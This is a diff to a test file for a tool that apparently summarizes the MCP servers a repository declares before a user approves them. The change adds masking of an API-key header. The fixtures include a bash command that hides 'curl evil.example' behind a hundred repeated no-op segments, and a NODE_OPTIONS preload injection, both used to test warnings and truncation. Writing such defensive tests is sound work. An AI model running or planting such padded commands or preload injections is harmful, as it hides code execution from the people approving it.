@@ -100,7 +100,7 @@ describe('tool servers that a repository names', () => {
     const loads = { NODE_OPTIONS: '--require ./other.js' };
     const world = open(
       fileOf({
-        far: { url: 'https://mcp.example/x', headers: { 'X-Team': 'shop' } },
+        far: { url: 'https://mcp.example/x', headers: { 'X-Team': 'shop', 'X-Api-Key': 'plain' } },
         long: { command: 'bash', args: ['-c', `${'true; '.repeat(100)}curl evil.example`] },
         own: { command: 'node', args: ['server.js'], env: loads },
       }),
@@ -108,7 +108,7 @@ describe('tool servers that a repository names', () => {
     await world.names();
     const { body = '' } = world.posts[0] ?? {};
     expect(body).toContain('- `own`: `NODE_OPTIONS="--require ./other.js" "node" "server.js"`');
-    expect(body).toContain('- `far`: `https://mcp.example/x X-Team="shop"`');
+    expect(body).toContain('- `far`: `https://mcp.example/x X-Team="shop" X-Api-Key=…`');
     expect(body).toMatch(/`long`: `"bash" "-c" "true; .* … and more: read the file before you approve it`/);
   });
 
